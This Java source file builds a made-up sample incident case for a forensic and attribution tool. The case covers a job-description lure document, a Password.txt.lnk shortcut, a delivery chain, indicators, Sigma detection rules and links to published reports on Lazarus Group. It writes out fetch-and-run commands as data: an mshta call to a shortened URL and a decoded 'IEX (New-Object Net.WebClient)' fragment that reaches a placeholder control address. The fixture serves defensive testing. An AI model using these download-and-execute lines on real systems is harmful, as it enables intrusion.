package io.ashiato.publish;

import static io.ashiato.publish.SampleCases.at;

import io.ashiato.model.Artefact;
import io.ashiato.model.Artefact.Role;
import io.ashiato.model.Assessment;
import io.ashiato.model.CaseRule;
import io.ashiato.model.Confidence;
import io.ashiato.model.DeliveryChain;
import io.ashiato.model.DeliveryChain.Joint;
import io.ashiato.model.DeliveryChain.Step;
import io.ashiato.model.DiagnosticCode;
import io.ashiato.model.EvidenceItem;
import io.ashiato.model.EvidenceKind;
import io.ashiato.model.Facts;
import io.ashiato.model.IncidentCase;
import io.ashiato.model.Indicator;
import io.ashiato.model.ItemOutcome;
import io.ashiato.model.Level;
import io.ashiato.model.PublishedSource;
import io.ashiato.model.RecordRef;
import io.ashiato.model.ResearchRelation;
import io.ashiato.model.ResearchRelation.SharedTrait;
import io.ashiato.model.SampleMatch;
import io.ashiato.model.Strength;
import io.ashiato.model.Trait;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;

/// The lure, the programs and the shared traits of the sample case, all made up; see [ModelAttribution] for who did it.
final class ModelCase {
    static final String LURE = "https://jobs.example.net/doc/Group_Job_Description.docx";
    static final String SHORTENER = "https://bit.ly/2example";
    static final String KNOWN = CaseMaker.hash("known implant");

    /// Made up for the sample, and marked so.
    static final PublishedSource INVENTED = new PublishedSource(
            "example-kite-2019",
            "Example CERT",
            "The KITE loader in a made-up intrusion",
            "2019-06-11",
            Optional.empty(),
            true);

    static final PublishedSource PHISHING = new PublishedSource(
            "strangerealintel-dangerous-password-2020-04",
            "StrangerealIntel",
            "Dangerous Password",
            "2020-04-02",
            Optional.empty(),
            false);
    static final PublishedSource CAMPAIGN = new PublishedSource(
            "fsecure-2020-08",
            "F-Secure",
            "Lazarus Group campaign targeting the cryptocurrency vertical",
            "2020-08-18",
            Optional.of("https://www.f-secure.com/example.pdf"),
            false);
    static final PublishedSource OTHER_CASE =
            new PublishedSource("AS-7f00aa31bc", "", "AS-7f00aa31bc", "2026-10-30", Optional.empty(), false);

    private ModelCase() {}

    /// The logs with all else that the case has.
    static IncidentCase of(IncidentCase logs) {
        return with(logs, ModelAttribution.named(), Optional.of(ModelAttribution.campaign()), research());
    }

    /// The same case where nobody is named. What points to somebody is left out where the refusal says so.
    static IncidentCase refused(Assessment.Refusal refusal) {
        boolean nothing = refusal == Assessment.Refusal.NOTHING_POINTS || refusal == Assessment.Refusal.NO_INTRUSION;
        return with(
                SampleCases.logs(),
                ModelAttribution.refused(refusal),
                Optional.empty(),
                nothing ? List.of() : research());
    }

    private static IncidentCase with(
            IncidentCase logs,
            Assessment.Attribution attribution,
            Optional<Assessment.Campaign> campaign,
            List<ResearchRelation> research) {
        var assessments = new ArrayList<Assessment>();
        logs.assessments().stream()
                .filter(it -> !(it instanceof Assessment.Attribution))
                .forEach(assessments::add);
        assessments.add(attribution);
        campaign.ifPresent(assessments::add);
        var indicators = new ArrayList<>(logs.indicators());
        indicators.addAll(indicators());
        return new CaseParts(logs)
                .items(items(logs))
                .diagnostics(logs.diagnostics().stream()
                        .filter(it -> it.code() != DiagnosticCode.NO_READER)
                        .toList())
                .findings(logs.findings().stream()
                        .map(it -> it.id().equals("F-002")
                                ? it.withConfidence(it.confidence().lowered())
                                : it)
                        .toList())
                .assessments(assessments)
                .indicators(indicators)
                .artefacts(artefacts())
                .chains(List.of(chain()))
                .samples(research.isEmpty() ? List.of() : List.of(likeness()))
                .research(research)
                .advice(advice())
                .knowledge(ModelAttribution.WITH_INVENTED)
                .build();
    }

    /// The logs and the files that were handed in.
    private static List<EvidenceItem> items(IncidentCase logs) {
        var items = new ArrayList<>(logs.items());
        items.removeIf(it -> it.kind() == EvidenceKind.SHORTCUT);
        for (Artefact artefact : artefacts()) {
            if (artefact.parent().isEmpty()) {
                items.add(new EvidenceItem(
                        artefact.path(),
                        artefact.facts().number("size").orElse(24_576),
                        artefact.sha256(),
                        artefact.kind(),
                        Optional.empty(),
                        ItemOutcome.of(ItemOutcome.State.READ)));
            }
        }
        return items;
    }

    private static List<Indicator> indicators() {
        return List.of(
                indicator("I-005", Indicator.Kind.URL, LURE, Indicator.Role.LURE, true, "A-002"),
                indicator("I-006", Indicator.Kind.DOMAIN, "jobs.example.net", Indicator.Role.LURE, true, "A-002"),
                indicator("I-007", Indicator.Kind.FILE_NAME, "Password.txt.lnk", Indicator.Role.LURE, false, "A-004"),
                indicator(
                        "I-008",
                        Indicator.Kind.MAIL_ADDRESS,
                        "recruiter@example.net",
                        Indicator.Role.LURE,
                        true,
                        "A-001"),
                indicator(
                        "I-009",
                        Indicator.Kind.SHA256,
                        CaseMaker.hash("first-look/APP-02/ProgramData/ntuser.exe"),
                        Indicator.Role.PAYLOAD,
                        true,
                        "A-007"),
                indicator(
                        "I-010",
                        Indicator.Kind.IMPHASH,
                        "d4e5f6a7b8c9d0e1f2a3b4c5d6e7f801",
                        Indicator.Role.PAYLOAD,
                        false,
                        "A-007"));
    }

    private static Indicator indicator(
            String id, Indicator.Kind kind, String value, Indicator.Role role, boolean blockable, String artefact) {
        return new Indicator(
                id,
                kind,
                value,
                role,
                Optional.empty(),
                Optional.empty(),
                Confidence.HIGH,
                List.of(),
                List.of(artefact),
                blockable);
    }

    private static Artefact artefact(
            String id, String path, EvidenceKind kind, Optional<String> parent, Optional<Role> role, Facts facts) {
        return new Artefact(id, path, CaseMaker.hash(path), kind, parent, role, facts);
    }

    static List<Artefact> artefacts() {
        String document = "first-look/FIN-WS07/Downloads/Group_Job_Description.docx";
        String shortcut = "first-look/FIN-WS07/Password.txt.lnk";
        return List.of(
                artefact("A-001", document, EvidenceKind.OOXML, Optional.empty(), Optional.empty(), documentFacts()),
                artefact(
                        "A-002",
                        document + "!/Zone.Identifier",
                        EvidenceKind.ZONE_IDENTIFIER,
                        Optional.of("A-001"),
                        Optional.of(Role.EMBEDDED),
                        Facts.builder()
                                .number("zone", 3)
                                .text("host_url", LURE)
                                .text("referrer_url", "https://jobs.example.net/")
                                .build()),
                artefact(
                        "A-003",
                        document + "!/ThisDocument.bas",
                        EvidenceKind.SCRIPT,
                        Optional.of("A-001"),
                        Optional.of(Role.MACRO),
                        Facts.NONE),
                artefact("A-004", shortcut, EvidenceKind.SHORTCUT, Optional.empty(), Optional.empty(), shortcutFacts()),
                artefact(
                        "A-005",
                        shortcut + "!/arguments",
                        EvidenceKind.COMMAND_LINE,
                        Optional.of("A-004"),
                        Optional.of(Role.COMMAND),
                        Facts.NONE),
                artefact(
                        "A-006",
                        shortcut + "!/arguments!/decoded",
                        EvidenceKind.SCRIPT,
                        Optional.of("A-005"),
                        Optional.of(Role.DECODED),
                        Facts.NONE),
                program("A-007", "ntuser.exe", "d4e5f6a7b8c9d0e1f2a3b4c5d6e7f801", 90_112),
                program("A-008", "perflog.exe", "0a1b2c3d4e5f60718293a4b5c6d7e8f9", 61_440));
    }

    private static Facts documentFacts() {
        return Facts.builder()
                .text("title", "Group Job Description")
                .text("author", "HR Office")
                .text("last_saved_by", "Windows User")
                .text("company", "Block Example Ltd")
                .text("template", "Normal.dotm")
                .text("rsid_root", "00A1B2C3")
                .number("words", 214)
                .time("created", Instant.parse("2019-08-19T07:12:00Z"))
                .time("modified", Instant.parse("2019-09-30T02:40:00Z"))
                .build();
    }

    private static Facts shortcutFacts() {
        return Facts.builder()
                .text("machine_id", "desktop-mn3id9")
                .text("mac", "00:0c:29:3e:5a:71")
                .text("volume_serial", "2a7c-11f0")
                .text("arguments", "/c start /b %SystemRoot%\\System32\\mshta " + SHORTENER)
                .text("working_dir", "C:\\Users\\Public\\Music\\")
                .text("icon", "%SystemRoot%\\System32\\shell32.dll")
                .time("created", Instant.parse("2019-08-19T07:40:11Z"))
                .time("modified", Instant.parse("2019-08-19T07:40:11Z"))
                .build();
    }

    private static Artefact program(String id, String name, String imphash, long size) {
        return artefact(
                id,
                "first-look/APP-02/ProgramData/" + name,
                EvidenceKind.PE,
                Optional.empty(),
                Optional.empty(),
                Facts.builder()
                        .number("size", size)
                        .text("machine", "x64")
                        .text("imphash", imphash)
                        .time("compiled", Instant.parse("2019-09-24T03:11:09Z"))
                        .texts("sections", List.of(".text", ".rdata", ".data", ".reloc"))
                        .build());
    }

    static DeliveryChain chain() {
        RecordRef written = SampleCases.source("first-look/FIN-WS07/Microsoft-Windows-Sysmon%4Operational.evtx", 41);
        return new DeliveryChain(
                "C-01",
                List.of(
                        step(DeliveryChain.Kind.ADDRESS, Joint.START, LURE, "", ""),
                        step(
                                DeliveryChain.Kind.DOCUMENT,
                                Joint.DOWNLOADED_FROM,
                                "Group_Job_Description.docx",
                                "A-001",
                                "2019-10-02T00:11:52Z"),
                        step(DeliveryChain.Kind.MACRO, Joint.CONTAINED, "ThisDocument.bas", "A-003", ""),
                        new Step(
                                DeliveryChain.Kind.SHORTCUT,
                                Joint.SEEN_IN_LOG,
                                "Password.txt.lnk",
                                Optional.of("A-004"),
                                at("2019-10-02T00:14:05Z"),
                                Optional.of(written)),
                        step(
                                DeliveryChain.Kind.COMMAND,
                                Joint.WOULD_RUN,
                                "cmd.exe /c start /b %SystemRoot%\\System32\\mshta " + SHORTENER,
                                "A-005",
                                ""),
                        step(DeliveryChain.Kind.ADDRESS, Joint.NAMES, SHORTENER, "", ""),
                        new Step(
                                DeliveryChain.Kind.PROCESS,
                                Joint.SEEN_IN_LOG,
                                "mshta.exe",
                                Optional.empty(),
                                at("2019-10-02T00:14:09.2Z"),
                                Optional.of(written)),
                        step(DeliveryChain.Kind.SCRIPT, Joint.DECODED, "IEX (New-Object Net.WebClient)", "A-006", ""),
                        step(
                                DeliveryChain.Kind.ADDRESS,
                                Joint.NAMES,
                                "http://203.0.113.77:8080/open?topic=v11",
                                "",
                                "")));
    }

    private static Step step(DeliveryChain.Kind kind, Joint joint, String label, String artefact, String time) {
        return new Step(
                kind,
                joint,
                label,
                artefact.isEmpty() ? Optional.empty() : Optional.of(artefact),
                time.isEmpty() ? Optional.empty() : at(time),
                Optional.empty());
    }

    static SampleMatch likeness() {
        return new SampleMatch(
                "A-007",
                KNOWN,
                "KITE loader",
                SampleMatch.Verdict.NEARLY_IDENTICAL,
                0.94,
                230,
                212,
                41,
                57,
                18,
                INVENTED);
    }

    static List<ResearchRelation> research() {
        return List.of(
                new ResearchRelation(
                        "R-01",
                        INVENTED,
                        List.of("Lazarus Group"),
                        List.of(shared(Trait.Kind.CODE_FAMILY, "KITE loader", Strength.A, "", "A-007"))),
                new ResearchRelation(
                        "R-02",
                        PHISHING,
                        List.of(),
                        List.of(
                                shared(Trait.Kind.MACHINE_ID, "desktop-mn3id9", Strength.B, "DESKTOP-MN3ID9", "A-004"),
                                shared(Trait.Kind.FILE_NAME, "password.txt.lnk", Strength.C, "", "A-004"))),
                new ResearchRelation(
                        "R-03",
                        CAMPAIGN,
                        List.of("Lazarus Group"),
                        List.of(
                                shared(Trait.Kind.TECHNIQUE, "T1547.005", Strength.C, "", "F-002"),
                                shared(Trait.Kind.TECHNIQUE, "T1053.005", Strength.C, "", "F-003"))),
                new ResearchRelation(
                        "R-04",
                        OTHER_CASE,
                        List.of(),
                        List.of(shared(Trait.Kind.MAC_ADDRESS, "00:0c:29:3e:5a:71", Strength.B, "", "A-004"))));
    }

    private static SharedTrait shared(
            Trait.Kind kind, String value, Strength strength, String published, String reference) {
        return new SharedTrait(new Trait(kind, value, List.of(reference)), strength, published);
    }

    static List<CaseRule> advice() {
        return List.of(
                new CaseRule(
                        "as-0f3c9a12de-shortcut-command.yml",
                        "Command of the shortcut Password.txt.lnk",
                        Level.HIGH,
                        """
                        title: Command of the shortcut Password.txt.lnk
                        id: 0f3c9a12-de00-4000-8000-000000000001
                        status: experimental
                        logsource:
                          category: process_creation
                          product: windows
                        detection:
                          selection:
                            Image|endswith: '\\mshta.exe'
                            CommandLine|contains: 'https://bit.ly/2example'
                          condition: selection
                        level: high
                        """,
                        1,
                        List.of("F-001", "A-005")),
                new CaseRule(
                        "as-0f3c9a12de-program-path.yml",
                        "Program ntuser.exe in ProgramData",
                        Level.MEDIUM,
                        """
                        title: Program ntuser.exe in ProgramData
                        id: 0f3c9a12-de00-4000-8000-000000000002
                        status: experimental
                        logsource:
                          category: process_creation
                          product: windows
                        detection:
                          selection:
                            Image|endswith: '\\ProgramData\\ntuser.exe'
                          condition: selection
                        level: medium
                        """,
                        2,
                        List.of("F-004", "A-007")));
    }
}
